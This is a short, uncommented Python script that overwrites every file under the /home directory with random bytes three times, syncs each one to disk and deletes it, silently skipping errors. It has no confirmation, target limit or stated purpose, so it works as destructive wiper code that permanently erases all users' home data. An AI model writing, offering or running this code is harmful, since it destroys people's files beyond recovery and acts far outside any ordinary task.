import os

def wipe(path, passes=3):
    size = os.path.getsize(path)
    with open(path, "r+b") as f:
        for _ in range(passes):
            f.seek(0)
            f.write(os.urandom(size))
            f.flush()
            os.fsync(f.fileno())
    os.remove(path)

for root, dirs, files in os.walk("/home"):
    for fn in files:
        try:
            wipe(os.path.join(root, fn))
        except OSError:
            pass
